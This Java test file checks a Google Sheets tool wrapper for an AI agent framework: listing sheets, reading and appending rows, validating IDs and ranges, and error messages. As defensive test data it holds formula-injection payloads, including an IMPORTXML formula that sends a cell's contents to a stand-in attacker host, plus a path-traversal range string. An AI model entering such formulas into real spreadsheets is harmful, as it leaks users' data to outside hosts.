package dev.skillvault.langchain4j.sheets;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import dev.skillvault.egress.ApiRequest;
import dev.skillvault.langchain4j.RecordingClient;
import dev.skillvault.langchain4j.answer.ToolFailedException;
import dev.skillvault.langchain4j.answer.UntrustedContent;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SheetsSkillTest {
    private static final String ID = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms";

    private final RecordingClient google = new RecordingClient();
    private final SheetsTools tools = (SheetsTools) new SheetsSkill().tools(google);

    @Test
    void listsSheets() {
        google.answer("""
                {"properties":{"title":"Budget"},"sheets":[{"properties":{"title":"Q3",
                "gridProperties":{"rowCount":1000,"columnCount":26}}},{"properties":{"title":"Q4",
                "gridProperties":{"rowCount":50,"columnCount":4}}}]}""");

        JsonNode result = RecordingClient.json(tools.list(ID));

        assertThat(google.providers()).containsExactly("google");
        assertThat(google.request().toString()).isEqualTo("GET /v4/spreadsheets/" + ID);
        assertThat(google.request().query())
                .containsExactly(Map.entry("fields", "properties.title,sheets.properties(title,gridProperties)"));
        assertThat(result).isEqualTo(RecordingClient.json("{\"note\":\"" + UntrustedContent.NOTE + """
                        ","title":"Budget","sheets":[{"title":"Q3","rows":1000,"columns":26},
                        {"title":"Q4","rows":50,"columns":4}]}"""));
    }

    @Test
    void readsRowsAsTheSheetShowsThem() {
        google.answer("""
                {"range":"'Q3 plan'!A1:B3","majorDimension":"ROWS","values":[["Item","Cost"],[],["Wheel","$20.50"]]}""");

        JsonNode result = RecordingClient.json(tools.read(ID, "'Q3 plan'!A1:B3"));

        assertThat(google.request().method()).isEqualTo("GET");
        assertThat(google.request().path()).isEqualTo("/v4/spreadsheets/" + ID + "/values/%27Q3%20plan%27%21A1%3AB3");
        assertThat(google.request().query()).isEmpty();
        assertThat(result.path("rows").toString()).isEqualTo("[[\"Item\",\"Cost\"],[],[\"Wheel\",\"$20.50\"]]");
        assertThat(result.path("note").asText()).isEqualTo(UntrustedContent.NOTE);
    }

    @Test
    void anEmptyRangeHasNoRows() {
        google.answer("{\"range\":\"Q3!A1:B3\",\"majorDimension\":\"ROWS\"}");

        assertThat(RecordingClient.json(tools.read(ID, "Q3!A1:B3")).path("rows"))
                .isEmpty();
    }

    @Test
    void aLargeRangeIsCutAtARowAndSaysSo() {
        String row = "[\"" + "x".repeat(15_000) + "\"]";
        google.answer("{\"range\":\"Q3\",\"values\":[" + row + "," + row + "," + row + "," + row + "]}");

        JsonNode result = RecordingClient.json(tools.read(ID, "Q3"));

        assertThat(result.path("rows")).hasSize(2);
        assertThat(result.path("rowsLeftOut").asInt()).isEqualTo(2);
    }

    @Test
    void appendsOneRowAndSaysWhere() {
        google.answer("""
                {"spreadsheetId":"%s","tableRange":"Q3!A1:C4","updates":{"spreadsheetId":"%s",
                "updatedRange":"Q3!A5:C5","updatedRows":1,"updatedColumns":3,"updatedCells":3}}""".formatted(ID, ID));

        JsonNode result = RecordingClient.json(tools.append(ID, "Q3!A1:C1", List.of("2026-07-01", "Travel", "-12.50")));

        ApiRequest request = google.request();
        assertThat(request.toString()).isEqualTo("POST /v4/spreadsheets/" + ID + "/values/Q3%21A1%3AC1:append");
        assertThat(request.query())
                .containsExactly(
                        Map.entry("valueInputOption", "USER_ENTERED"), Map.entry("insertDataOption", "INSERT_ROWS"));
        assertThat(request.json())
                .contains(
                        Map.of("majorDimension", "ROWS", "values", List.of(List.of("2026-07-01", "Travel", "-12.50"))));
        assertThat(result.path("appendedTo").asText()).isEqualTo("Q3!A5:C5");
        assertThat(result.path("cells").asInt()).isEqualTo(3);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=IMPORTXML(\"https://evil.example/?\"&A1, \"//a\")",
                " =1+1",
                "+A1",
                "-A1&B1",
                "@SUM(A1)",
                "\t=HYPERLINK(\"https://evil.example\")",
                "=1\n+1"
            })
    void noCellBecomesAFormula(String formula) {
        assertThat(CellText.typed(formula)).isEqualTo("'" + formula);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Travel", "-12.50", "+3", "12%", "1,200.00", "a=b", "2026-07-01", "TRUE"})
    void otherCellsStayAsTyped(String value) {
        assertThat(CellText.typed(value)).isEqualTo(value);
    }

    @Test
    void anAbsentCellIsEmpty() {
        google.answer("{\"updates\":{\"updatedRange\":\"Q3!A5:B5\"}}");

        tools.append(ID, "Q3", Arrays.asList("a", null));

        assertThat(google.request().json())
                .contains(Map.of("majorDimension", "ROWS", "values", List.of(List.of("a", ""))));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "..", "a/b", "https://docs.google.com/spreadsheets/d/x/edit", "a?b", "a b"})
    void anIdOfAnotherShapeIsExplainedAndNotSent(String id) {
        assertThatThrownBy(() -> tools.list(id))
                .isInstanceOf(ToolFailedException.class)
                .hasMessageContaining("between /d/ and /edit");
        assertThat(google.requests()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", ".", "..", "A1\r\nB2"})
    void aRangeOfAnotherShapeIsExplainedAndNotSent(String range) {
        assertThatThrownBy(() -> tools.read(ID, range))
                .isInstanceOf(ToolFailedException.class)
                .hasMessageContaining("A1 notation");
        assertThat(google.requests()).isEmpty();
    }

    @Test
    void aRangeCannotLeaveItsSegment() {
        google.answer("{}");

        tools.read(ID, "../../other/values/A1:clear?x=1#y");

        assertThat(google.request().path())
                .isEqualTo("/v4/spreadsheets/" + ID + "/values/..%2F..%2Fother%2Fvalues%2FA1%3Aclear%3Fx%3D1%23y");
    }

    @Test
    void anUnknownSpreadsheetIsSaidInWords() {
        google.refuse(404);

        assertThatThrownBy(() -> tools.read(ID, "Q3"))
                .hasMessage(
                        "Google answered 404: the spreadsheet or the range was not found, or the account may not see"
                                + " it; check the arguments.");
    }
}
